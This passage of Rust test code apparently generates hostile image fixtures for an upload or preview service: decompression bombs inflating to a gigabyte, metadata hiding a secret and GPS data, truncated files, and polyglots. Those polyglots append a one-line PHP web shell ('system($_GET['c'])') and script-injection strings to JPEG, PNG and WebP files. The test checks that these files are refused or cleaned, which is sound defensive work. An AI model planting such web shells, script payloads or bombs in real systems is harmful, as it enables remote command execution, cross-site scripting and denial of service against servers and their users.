        let no_data = with(&webp::lossy(16_383, 6_103)[..40], 4, &32u32.to_le_bytes());
        self.refused("bomb-no-data.webp", webp::riff(&[no_data]), "corrupt");
        // Far more data than the header says: a picture of 37 × 23 whose data inflate to a gigabyte.
        let png = Png::new(37, 23, 8, 2);
        let gigabyte = png::zeros(1 << 30);
        let file = [png.head(), chunk(b"IDAT", &gigabyte), end.clone()].concat();
        self.previewed("bomb-data-inflate-to-a-gigabyte.png", file, (37, 23));
        let file = [png.interlaced().head(), chunk(b"IDAT", &gigabyte), end.clone()].concat();
        self.previewed("bomb-data-inflate-to-a-gigabyte-interlaced.png", file, (37, 23));
        // The same in metadata, where a decoder that is helpful would inflate it.
        for (kind, prefix) in
            [(b"zTXt", &b"Comment\0\0"[..]), (b"iTXt", b"Comment\0\x01\0\0\0"), (b"iCCP", b"profile\0\0")]
        {
            let file = png.with(&chunk(kind, &[prefix, &gigabyte].concat()));
            let name = format!("bomb-{}-inflates-to-a-gigabyte.png", String::from_utf8_lossy(kind));
            self.previewed(name, file, (37, 23));
        }
        let many = chunk(b"zTXt", &[b"Comment\0\0", &png::zeros(1_000_000)[..]].concat()).repeat(1_500);
        self.previewed("bomb-many-texts-of-a-megabyte.png", png.with(&many), (37, 23));
        // Many small pieces.
        let texts = chunk(b"tEXt", b"a\0b").repeat(90_000);
        self.previewed("many-texts.png", png.with(&texts), (37, 23));
        let comments = segment(0xfe, b"a").repeat(9_000);
        self.previewed("many-comments.jpg", Jpeg::new(93, 61).with(&comments).bytes(), (93, 61));
        let profiles: Vec<u8> =
            (1..=255).flat_map(|n| segment(0xe2, &[b"ICC_PROFILE\0", &[n, 255][..], &[n; 4_000]].concat())).collect();
        self.shown("many-pieces-of-a-profile.jpg", Jpeg::new(93, 61).with(&profiles).bytes(), (93, 61));
        let profiles = segment(0xe2, b"ICC_PROFILE\0\x01\x01a").repeat(9_000);
        self.shown("the-first-piece-of-a-profile-many-times.jpg", Jpeg::new(93, 61).with(&profiles).bytes(), (93, 61));
        let junk = webp::chunk(b"junk", b"").repeat(90_000);
        self.previewed(
            "many-chunks.webp",
            webp::riff(&[webp::extended(0, 41, 29), junk, webp::lossless(41, 29)]),
            (41, 29),
        );
        // Sixty-four walks over sixteen megapixels.
        let scans = Jpeg { idle_scans: 57, ..Jpeg::new(4_000, 4_000).sampled(&[(1, 1)]).progressive() };
        self.previewed("many-scans-of-a-large-picture.jpg", scans.bytes(), (4_000, 4_000));
    }

    /// Good pictures with something in them that must stay with their owner.
    fn stowaways(&mut self) {
        let secret = SECRET.as_bytes();
        let prefixed = |prefix: &[u8]| [prefix, secret].concat();
        let jpeg = || Jpeg::new(93, 61);
        let size = (93, 61);
        let thumbnail = Jpeg::new(8, 8).with(&segment(0xfe, secret)).bytes();
        for (name, marker, data) in [
            ("exif-gps-and-thumbnail", 0xe1, [b"Exif\0\0", &exif(1)[..], &thumbnail].concat()),
            ("exif-broken", 0xe1, prefixed(b"Exif\0\0II*\0\xff\xff\xff\xff")),
            ("xmp", 0xe1, prefixed(b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>")),
            ("xmp-extended", 0xe1, prefixed(&[b"http://ns.adobe.com/xmp/extension/\0", &[b'0'; 40][..]].concat())),
            ("iptc", 0xed, prefixed(b"Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x20")),
            ("maker-note", 0xe7, secret.to_vec()),
            ("many-pictures", 0xe2, prefixed(b"MPF\0II*\0\x08\0\0\0")),
            ("jfif-thumbnail", 0xe0, prefixed(b"JFIF\0\x01\x02\0\0\x01\0\x01\x04\x04")),
            ("jfxx-thumbnail", 0xe0, prefixed(b"JFXX\0\x10")),
            ("adobe-with-more", 0xee, prefixed(b"Adobe\0\x64\0\0\0\0\x01")),
            ("comment", 0xfe, secret.to_vec()),
            ("reserved-segment", 0xf7, secret.to_vec()),
        ] {
            let file = jpeg().with(&segment(marker, &data)).bytes();
            self.previewed(format!("stowaway-{name}.jpg"), file, size);
        }
        let good = jpeg().bytes();
        let end = good.len() - 2;
        let html = format!("<script>alert('{SECRET}')</script>");
        let inside = [&good[..end], html.as_bytes(), &good[end..]].concat();
        self.previewed("stowaway-behind-the-data.jpg", inside, size);
        let png = Png::new(37, 23, 8, 2);
        for (name, kind, data) in [
            ("text", b"tEXt", prefixed(b"Comment\0")),
            ("compressed-text", b"zTXt", [b"Comment\0\0", &png::stored(secret)[..]].concat()),
            ("international-text", b"iTXt", prefixed(b"XML:com.adobe.xmp\0\0\0\0\0")),
            ("private", b"prVt", secret.to_vec()),
            ("palette-name", b"sPLT", prefixed(b"a\0\x08\0\0\0\0\0\0\0")),
            ("gamma-too-long", b"gAMA", prefixed(&45_455u32.to_be_bytes())),
            ("resolution-too-long", b"pHYs", prefixed(&[0; 9])),
        ] {
            self.previewed(format!("stowaway-{name}.png"), png.with(&chunk(kind, &data)), (37, 23));
        }
        let time = png.with(&chunk(b"tIME", &[7, 0xea, 11, 21, 12, 0, 0]));
        self.previewed("stowaway-time.png", time, (37, 23));
        let (w, h) = (41, 29);
        let of = |flags, chunks: &[Vec<u8>]| webp::riff(&[vec![webp::extended(flags, w, h)], chunks.to_vec()].concat());
        let picture = webp::lossy(w, h);
        for (name, flags, kind) in [("exif", webp::EXIF, b"EXIF"), ("xmp", webp::XMP, b"XMP "), ("private", 0, b"junk")]
        {
            let file = of(flags, &[picture.clone(), webp::chunk(kind, &prefixed(&exif(1)))]);
            self.previewed(format!("stowaway-{name}.webp"), file, (w, h));
        }
        // Whatever comes after the end, a picture that is something else as well.
        let zip = [b"PK\x03\x04", secret, b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"].concat();
        let video = prefixed(b"\0\0\0\x18ftypmp42\0\0\0\0isommp42");
        let tails = [
            ("zip", zip),
            ("html", html.clone().into_bytes()),
            ("pdf", prefixed(b"%PDF-1.7\n")),
            ("motion-photo", video),
            ("second-picture", thumbnail),
            ("php", prefixed(b"<?php system($_GET['c']); ?>")),
            ("zeros", vec![0; 3_000]),
        ];
        for (name, tail) in tails {
            self.previewed(format!("and-{name}.jpg"), [&good[..], &tail].concat(), size);
            self.previewed(format!("and-{name}.png"), [&png.with(b"")[..], &tail].concat(), (37, 23));
            self.previewed(
                format!("and-{name}.webp"),
                [webp::riff(std::slice::from_ref(&picture)), tail].concat(),
                (w, h),
            );
        }
        // A comment that makes the file a script for whoever does not look at its type.
        let script = segment(0xfe, b"*/=1;alert(1);/*");
        self.previewed("and-script-in-a-comment.jpg", jpeg().with(&script).bytes(), size);
    }

    /// Files that end at each of the places where one part of them ends, and in the middle of each part.
    fn cut(&mut self) {
        let jpeg = Jpeg { restart: 5, ..Jpeg::new(93, 61) }.bytes();
        let parts: Vec<usize> = (2..jpeg.len() - 1).filter(|at| jpeg[*at] == 0xff && jpeg[at + 1] != 0).collect();
        self.cut_at("jpg", &jpeg, &parts);
        let png = Png::new(37, 23, 8, 2).with(&chunk(b"gAMA", &45_455u32.to_be_bytes()));
        self.cut_at("png", &png, &[8, 16, 33, 41, 49, png.len() - 12, png.len() - 4]);
        let (w, h) = (41, 29);
        let chunks = [webp::extended(webp::ALPHA, w, h), webp::opacity(w, h), webp::lossy(w, h)];
        let parts: Vec<usize> = chunks
            .iter()
            .scan(12, |at, chunk| {
                *at += chunk.len();
                Some(*at)
            })
            .collect();
        self.cut_at("webp", &webp::riff(&chunks), &[&[12], &parts[..2]].concat());
    }

    fn cut_at(&mut self, extension: &str, bytes: &[u8], parts: &[usize]) {
        for at in parts.iter().flat_map(|at| [*at, at + 3]).filter(|at| *at < bytes.len()) {
            self.refused(format!("cut-at-{at}.{extension}"), &bytes[..at], "truncated");
        }
    }
}

fn media_type(name: &str) -> &'static str {
    match name.rsplit('.').next() {
        Some("jpg") => JPEG,
        Some("webp") => WEBP,
        _ => PNG,
    }
}

fn with(bytes: &[u8], at: usize, other: &[u8]) -> Vec<u8> {
    let mut bytes = bytes.to_vec();
    bytes[at..at + other.len()].copy_from_slice(other);
    bytes
}

fn position(bytes: &[u8], part: &[u8]) -> usize {
    bytes.windows(part.len()).position(|window| window == part).expect("the part is there")
}

/// 48 × 40 pixels of something.
fn drawn() -> RgbImage {
    RgbImage::from_fn(48, 40, |x, y| Rgb([(x * 5) as u8, (y * 6) as u8, (x * y) as u8]))
}

fn encoded(picture: DynamicImage, format: ImageFormat) -> Vec<u8> {
    let mut bytes = Cursor::new(Vec::new());
    picture.write_to(&mut bytes, format).expect("writing a small picture to memory cannot fail");
    bytes.into_inner()
}

/// EXIF as a phone writes it: which side is up, by what the picture was taken, and where.
fn exif(orientation: u8) -> Vec<u8> {
    let entry = |tag: u16, kind: u16, count: u32, value: u32| {
        [&tag.to_be_bytes()[..], &kind.to_be_bytes(), &count.to_be_bytes(), &value.to_be_bytes()].concat()
    };
    let secret_at = 8 + 2 + 3 * 12 + 4;
    let gps_at = secret_at + SECRET.len() as u32;
    let mut tiff = b"MM\0*\0\0\0\x08\0\x03".to_vec();
    tiff.extend(entry(0x010f, 2, SECRET.len() as u32, secret_at));
    tiff.extend(entry(0x0112, 3, 1, u32::from(orientation) << 16));
    tiff.extend(entry(0x8825, 4, 1, gps_at));
    tiff.extend([0; 4]);
    tiff.extend(SECRET.as_bytes());
    // GPS: the reference `N` and a latitude that lies behind.
    tiff.extend(2u16.to_be_bytes());
    tiff.extend(entry(1, 2, 2, u32::from_be_bytes(*b"N\0\0\0")));
    tiff.extend(entry(2, 5, 3, gps_at + 2 + 2 * 12 + 4));
    tiff.extend([0; 4]);
    for (number, parts) in [(52u32, 1u32), (30, 1), (5868, 100)] {
        tiff.extend(number.to_be_bytes());
        tiff.extend(parts.to_be_bytes());
    }
    tiff
}
